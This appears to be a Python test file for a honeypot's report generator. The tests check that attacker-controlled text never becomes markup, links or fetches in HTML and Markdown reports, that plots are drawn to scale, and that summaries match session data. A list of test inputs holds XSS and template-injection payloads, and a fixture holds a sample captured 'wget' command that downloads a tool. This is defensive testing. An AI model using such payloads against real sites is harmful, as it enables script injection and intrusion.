"""Reports: nothing of an attacker's becomes markup, nothing is fetched, and what is said is what the rows say."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from decnet.hostile import visible
from decnet.report import Bars, Columns, Document, Heading, Paragraph, Table, html_page, markdown_page
from decnet.report.made import EXAMPLES, SESSIONS_SHOWN, Facts, report_of
from decnet.report.markdown import text
from decnet.report.plots import bars_svg, columns_of, columns_svg

AT = datetime(2026, 3, 1, 10, tzinfo=UTC)
EVIL = [
    "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</title><b>", "</svg><b>",
    "![x](http://evil.example/p.png)", "[x](javascript:alert(1))", "<http://evil.example>", "http://evil.example/x", "www.evil.example",
    "a@evil.example", "mailto:a@evil.example", "`x` **b** _i_ ~~s~~", "| a | b |", "# h", "- x", "1. x", "> q", "---", "===", "    code", "&lt;b&gt;",
    "&#60;b&#62;", "\x1b]0;x\x07", "\u202eevil", "a\nb", "\ud800", "\\", "x" * 401, "", "-->", "]]>", "[x]: http://evil.example", "$x$", "+ x", "* x",
    "~~~", "```", "javascript://x", "${7*7}", "{{7*7}}",
]  # fmt: skip
ALLOWED = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "table", "thead", "tbody", "tr", "th", "td", "code",
    "figure", "figcaption", "svg", "rect", "line", "text", "footer",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "xmlns", "role", "aria-label", "viewbox", "width", "height", "font-family",
    "font-size", "x", "y", "x1", "x2", "y1", "y2", "fill", "stroke", "text-anchor",
}  # fmt: skip


class Page(HTMLParser):
    """What a browser would see."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.values: list[str] = []
        self.texts: list[str] = []
        self.cells: list[str] = []
        self.open: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.values += [value or "" for name, value in attrs if name != "xmlns"]
        self.open += [] if tag == "meta" else [tag]
        if tag in ("td", "th"):
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "tags are closed in order"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
        if self.cells and {"td", "th"} & set(self.open):
            self.cells[-1] += data


def document(evil: str) -> Document:
    return Document(
        evil, evil, AT, [evil],
        [Heading(evil), Paragraph(evil), Table((evil, "b"), [(evil, evil)], frozenset({1}), more=3),
         Bars(evil, [(evil, 5), ("other", 0)], evil), Columns(evil, [(AT, 1), (AT + timedelta(hours=1), 0)], 3600, evil)],
    )  # fmt: skip


def check_html(page: str) -> Page:
    read = Page(page)
    assert read.open == []
    assert read.tags - {"title"} <= ALLOWED
    assert read.attributes <= ATTRIBUTES
    assert not re.search(r"url\(|@import|expression\(", page.split("</style>", maxsplit=1)[0]), (
        "the style fetches nothing"
    )
    assert "default-src 'none'" in page.split("<title>", maxsplit=1)[0], (
        "the policy comes before anything else"
    )
    return read


@pytest.mark.parametrize("evil", EVIL)
def test_no_text_becomes_markup_in_html(evil: str) -> None:
    read = check_html(html_page(document(evil)))
    assert read.cells[:4] == [visible(evil, 400), "b", visible(evil, 400), visible(evil, 400)]


@given(st.text())
def test_no_text_at_all_becomes_markup_in_html(evil: str) -> None:
    check_html(html_page(document(evil)))


RENDER = MarkdownIt("commonmark").enable("table").enable("strikethrough")
QUIET = {
    "heading_open",
    "heading_close",
    "paragraph_open",
    "paragraph_close",
    "inline",
    "blockquote_open",
    "blockquote_close",
    "text",
    "softbreak",
}
TABLES = {
    f"{part}_{end}" for part in ("table", "thead", "tbody", "tr", "th", "td") for end in ("open", "close")
}


def kinds(markdown: str) -> tuple[set[str], list[str]]:
    """Kinds of tokens, and the texts of the inline ones, as a renderer has them."""
    found: set[str] = set()
    texts = []
    for token in RENDER.parse(markdown):
        found.add(token.type)
        if token.type == "inline":
            found |= {child.type for child in token.children or ()}
            texts.append("".join(child.content for child in token.children or ()))
    return found, texts


def check_markdown(evil: str) -> None:
    found, texts = kinds(markdown_page(document(evil)))
    assert found - {"text_special"} <= QUIET | TABLES, evil
    wanted = " ".join(visible(evil, 400).split())
    assert wanted in [" ".join(one.split()) for one in texts]


@pytest.mark.parametrize("evil", EVIL)
def test_no_text_becomes_markup_in_markdown(evil: str) -> None:
    check_markdown(evil)


@given(st.text(alphabet=st.sampled_from("\\`*_{}[]()<>#+-.!|&~:/@=^$\"'wh 1\tax;\n"), max_size=30))
def test_no_text_at_all_becomes_markup_in_markdown(evil: str) -> None:
    check_markdown(evil)


@pytest.mark.parametrize(
    "link",
    [
        "http://evil.example",
        "www.evil.example",
        "WWW.evil.example",
        "a@evil.example",
        "mailto:x",
        "xmpp:x",
        "ftp://x",
    ],
)
def test_what_a_renderer_would_make_a_link_of_is_none(link: str) -> None:
    said = text(link)
    assert not re.search(r"(?i)://|www\.|@|mailto:|xmpp:", said)
    assert kinds(said)[1] == [link]


def test_a_plain_text_stays_readable() -> None:
    assert text("fetched k6.sh (8403d4cf), 12 - 13 / 2+2=4") == "fetched k6.sh (8403d4cf), 12 - 13 / 2+2=4"


# --- plots


def test_bars_are_as_long_as_their_share() -> None:
    drawn = ElementTree.fromstring(bars_svg(Bars("t", [("a", 100), ("b", 50), ("c", 1), ("d", 0)], "u")))
    wide = [int(one.attrib["width"]) for one in drawn.iter("{http://www.w3.org/2000/svg}rect")]
    assert wide[1] * 2 == wide[0]
    assert wide[2] >= 1
    assert wide[3] == 0
    assert wide[0] + 250 + 60 == 720


@pytest.mark.parametrize(
    ("hours", "step_s", "columns"),
    [([0], 3600, 1), ([0, 1, 1.5], 3600, 2), ([0, 24 * 9], 12 * 3600, 19), ([0, 24 * 400], 7 * 86_400, 58)],
)
def test_columns_cover_the_span_and_count_every_moment(hours: list[float], step_s: int, columns: int) -> None:
    plot = columns_of("t", [AT + timedelta(hours=hour) for hour in hours], "u")
    assert (plot.step_s, len(plot.values)) == (step_s, columns)
    assert sum(count for _, count in plot.values) == len(hours)
    assert plot.values[0][0] <= AT
    ElementTree.fromstring(columns_svg(plot))


@given(st.lists(st.datetimes(datetime(1970, 1, 2), datetime(9000, 1, 1)), min_size=1, max_size=20))
def test_any_span_is_drawn_within_bounds(moments: list[datetime]) -> None:
    plot = columns_of("t", [moment.replace(tzinfo=UTC) for moment in moments], "u")
    assert sum(count for _, count in plot.values) == len(moments)
    assert len(plot.values) <= 600


# --- what it says


def session(number: int, severity: str | None = "high", **more: Any) -> Any:
    return {
        "session_id": f"{number:08d}-rest", "attacker_ip": f"203.0.113.{number % 5}", "attacker_uuid": f"a{number % 5}", "decky_id": "d1",
        "started_at": AT + timedelta(hours=number), "ended_at": AT + timedelta(hours=number, seconds=9), "severity": severity,
        "severity_reason": f"ran thing {number}", "story_line": "access", "identity_uuid": None, **more,
    }  # fmt: skip


def tag(number: int, **more: Any) -> Any:
    return {
        "uuid": f"t{number}", "session_id": f"{number:08d}-rest", "tactic": "TA0011", "technique_id": "T1105", "sub_technique_id": None,
        "confidence": 0.9, "rule_id": "R0031", "evidence": {"matched": f"wget http://203.0.113.9/{number}"}, "seen_at": AT,
        "attack_release": "18.1", **more,
    }  # fmt: skip


def facts(**more: Any) -> Facts:
    given: dict[str, Any] = {
        "title": "T", "about": "a", "sessions": [session(1), session(2, "low"), session(3, None)], "tags": [tag(n) for n in range(5)],
        "tops": {"users": {"of": 9, "top": [{"value": "root", "attackers": 3, "times": 7}]}}, "countries": {"203.0.113.1": "NL"},
    }  # fmt: skip
    return Facts(**{**given, **more})


def tables(found: Document) -> dict[str, Table]:
    """Tables by the heading above."""
    out, heading = {}, ""
    for block in found.blocks:
        heading = block.text if isinstance(block, Heading) else heading
        if isinstance(block, Table):
            out[heading] = block
    return out


def test_the_first_sentences_say_it_all() -> None:
    assert report_of(facts(), AT).lead == [
        "From 2026-03-01 10:00Z to 2026-03-01 13:00Z: 3 sessions from 3 addresses on 1 decoy, with 1 technique of MITRE ATT&CK.",
        "Sessions by severity: 1 high, 1 low.",
        "The worst of them: ran thing 1 (203.0.113.1).",
    ]


def test_a_technique_is_shown_with_commands_and_their_sessions() -> None:
    (row,) = tables(report_of(facts(tags=[*(tag(n) for n in range(5)), tag(9, confidence=1.0)]), AT))[
        "Techniques, by tactic"
    ].rows
    assert row[:4] == ("Command and Control", "T1105", "Ingress Tool Transfer", "6")
    assert row[4].split("  |  ") == [f"wget http://203.0.113.9/{n}" for n in (9, 0, 1)]
    assert row[5].split() == ["00000009", "00000000", "00000001"]
    assert EXAMPLES == 3


def test_techniques_are_in_the_order_of_the_matrix() -> None:
    found = [
        tag(1),
        tag(2, tactic="TA0001", technique_id="T1078"),
        tag(3, tactic="TA0040", technique_id="T1496"),
    ]
    rows = tables(report_of(facts(tags=found), AT))["Techniques, by tactic"].rows
    assert [row[0] for row in rows] == ["Initial Access", "Command and Control", "Impact"]


def test_sessions_are_ranked_and_so_many_are_shown() -> None:
    table = tables(report_of(facts(sessions=[session(n) for n in range(SESSIONS_SHOWN + 1)]), AT))[
        "Sessions, the worst first"
    ]
    assert (len(table.rows), table.more) == (SESSIONS_SHOWN, 1)
    assert table.rows[0][4] == f"{SESSIONS_SHOWN:08d}", "the newest of one severity"
    ranked = tables(report_of(facts(), AT))["Sessions, the worst first"].rows
    assert [row[1] for row in ranked] == ["high", "low", "-"]
    assert [row[3] for row in ranked] == ["NL", "-", "-"]


def test_nothing_is_a_report_too() -> None:
    empty = report_of(facts(sessions=[], tags=[], tops={}), AT)
    assert empty.lead == ["Nothing of this was seen."]
    assert "Nothing of this was seen" in html_page(empty)
    assert "Nothing of this was seen" in markdown_page(empty)
